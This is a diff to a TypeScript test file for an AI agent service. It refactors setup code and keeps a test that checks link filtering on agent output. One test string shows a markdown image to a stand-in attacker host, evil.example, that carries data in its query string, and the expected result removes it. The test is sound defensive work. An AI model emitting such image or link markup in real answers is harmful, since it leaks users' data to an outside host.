@@ -1,17 +1,15 @@
-import { afterAll, beforeAll, expect, test } from 'vitest';
-import type { TestSite } from '../../support/site.ts';
+import { beforeAll, expect, test } from 'vitest';
+import { useSite } from '../../support/use-service.ts';
 import { Admin } from '../site/admin.ts';
-import { type AgentService, answer, conversations, script, startAgentService } from './agent-service.ts';
+import { answer, conversations, script, useAgent } from './agent-service.ts';
 
-let agent: AgentService;
-let site: TestSite;
+const agent = useAgent();
+const site = useSite(agent.service);
 
 const SAID = `The safe ![x](https://evil.example/p?d=premium) opens: [how](https://evil.example/how), see [the guide](https://guide.example/safe#open), [help](https://help.good.example/), https://evil.example/c.`;
 const TOLD = `The safe  opens: how, see [the guide](https://guide.example/safe#open), [help](https://help.good.example/), (link removed).`;
 
 beforeAll(async () => {
-  agent = await startAgentService();
-  site = await agent.service.site();
   await new Admin(agent.service).updateSite(site.id, { linkHosts: ['*.good.example'] });
   await site.create('/content', {
     externalId: 'safe',
@@ -32,7 +30,6 @@ beforeAll(async () => {
     }),
   });
 });
-afterAll(() => agent?.stop());
 
 const withoutMarkers = (text: string) => text.replaceAll(' [1]', '');
 
